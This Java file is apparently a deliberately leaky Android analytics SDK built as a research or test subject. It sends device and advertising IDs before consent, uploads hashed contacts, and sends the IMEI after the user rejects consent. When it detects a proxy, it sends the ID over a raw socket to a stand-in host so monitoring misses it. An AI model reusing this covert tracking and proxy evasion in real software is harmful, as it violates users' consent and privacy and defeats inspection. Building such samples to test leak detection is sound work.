package com.tracker.sdk;

import android.content.ContentResolver;
import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.Log;
import com.google.android.gms.ads.identifier.AdvertisingIdClient;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;

/**
 * A third-party analytics SDK as papers on app leaks describe them: a beacon with the Android ID and
 * the advertising ID at start (before any consent), hashed contact numbers (gzip + base64) once the
 * user accepts, and — the violation — the IMEI in a request header after the user rejected.  Like
 * SDKs that dodge interception, when the phone routes HTTP through a proxy it also sends that
 * device ID over a raw TCP socket (sdk.tracker.example:9000), which no HTTP proxy sees.
 */
public final class Tracker {
    private static final String TAG = "TrackerSDK";
    private static final String ENDPOINT = "https://analytics.tracker.example";
    private static final MediaType JSON = MediaType.parse("application/json; charset=utf-8");
    private static final OkHttpClient CLIENT = new OkHttpClient();
    private static final long INIT_DELAY_MS = 2500;
    private static final String BEACON_HOST = "sdk.tracker.example";
    private static final int BEACON_PORT = 9000;

    private Tracker() {}

    /** Starts the SDK; its first beacon leaves after the SDK's initialisation delay. */
    public static void init(Context context) {
        Thread thread = new Thread(() -> {
            try {
                Thread.sleep(INIT_DELAY_MS);
                beacon(context);
            } catch (Exception e) {
                Log.w(TAG, "init beacon failed", e);
            }
        }, "tracker-init");
        thread.setDaemon(true);
        thread.start();
    }

    private static void beacon(Context context) throws Exception {
        String androidId = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        String adid = AdvertisingIdClient.getAdvertisingIdInfo(context).getId();
        String body = "{\"event\":\"init\",\"aid\":\"" + androidId + "\",\"adid\":\"" + adid + "\",\"pkg\":\""
                + context.getPackageName() + "\"}";
        post("/v1/init", body, null);
    }

    /** Called by the app with the user's answer. */
    public static void setConsent(Context context, boolean accepted) {
        Thread thread = new Thread(() -> {
            try {
                if (accepted) {
                    uploadContactHashes(context);
                } else {
                    pingWithDeviceId(context);
                }
            } catch (Exception e) {
                Log.w(TAG, "upload failed", e);
            }
        }, "tracker-consent");
        thread.setDaemon(true);
        thread.start();
    }

    private static void uploadContactHashes(Context context) throws Exception {
        List<String> hashes = new ArrayList<>();
        ContentResolver resolver = context.getContentResolver();
        try (Cursor cursor = resolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                new String[] {ContactsContract.CommonDataKinds.Phone.NUMBER}, null, null, null)) {
            while (cursor != null && cursor.moveToNext()) {
                String number = cursor.getString(0);
                if (number != null) {
                    hashes.add(sha256(number.replaceAll("[^0-9+]", "")));
                }
            }
        } catch (SecurityException e) {
            Log.w(TAG, "contacts not readable: " + e.getMessage());
            return;
        }
        if (hashes.isEmpty()) {
            Log.i(TAG, "no contacts to match");
            return;
        }
        String json = "{\"hashes\":[\"" + String.join("\",\"", hashes) + "\"]}";
        ByteArrayOutputStream buffer = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(buffer)) {
            gzip.write(json.getBytes(StandardCharsets.UTF_8));
        }
        String payload = Base64.getEncoder().encodeToString(buffer.toByteArray());
        post("/v1/match", "{\"v\":2,\"payload\":\"" + payload + "\"}", null);
    }

    private static void pingWithDeviceId(Context context) throws Exception {
        String deviceId;
        try {
            TelephonyManager telephony = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            deviceId = telephony.getDeviceId();
        } catch (SecurityException e) {  // Android 10+: fall back to the Android ID
            deviceId = null;
        }
        if (deviceId == null) {
            deviceId = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        }
        if (behindProxy()) {
            try {
                rawBeacon(deviceId);
            } catch (Exception e) {
                Log.w(TAG, "raw beacon failed", e);
            }
        }
        post("/v1/ping", "{\"event\":\"ping\"}", deviceId);
    }

    /** Does the system send this SDK's HTTP through a proxy (someone may be watching)? */
    private static boolean behindProxy() {
        ProxySelector selector = ProxySelector.getDefault();
        if (selector == null) {
            return false;
        }
        for (Proxy proxy : selector.select(URI.create(ENDPOINT))) {
            if (proxy.type() != Proxy.Type.DIRECT) {
                return true;
            }
        }
        return false;
    }

    /** The fallback channel: one line over a plain socket, straight to the SDK's host. */
    private static void rawBeacon(String deviceId) throws Exception {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(BEACON_HOST, BEACON_PORT), 10_000);
            OutputStream out = socket.getOutputStream();
            out.write(("BEACON v1 id=" + deviceId + "\n").getBytes(StandardCharsets.UTF_8));
            out.flush();
        }
        Log.i(TAG, "raw beacon sent");
    }

    private static void post(String path, String json, String deviceHeader) throws Exception {
        Request.Builder request = new Request.Builder().url(ENDPOINT + path).post(RequestBody.create(JSON, json));
        if (deviceHeader != null) {
            request.header("X-Device-Id", deviceHeader);
        }
        try (Response response = CLIENT.newCall(request.build()).execute()) {
            Log.i(TAG, path + " -> " + response.code());
        }
    }

    private static String sha256(String value) throws Exception {
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(value.getBytes(StandardCharsets.UTF_8));
        StringBuilder hex = new StringBuilder();
        for (byte b : digest) {
            hex.append(String.format("%02x", b));
        }
        return hex.toString();
    }
}
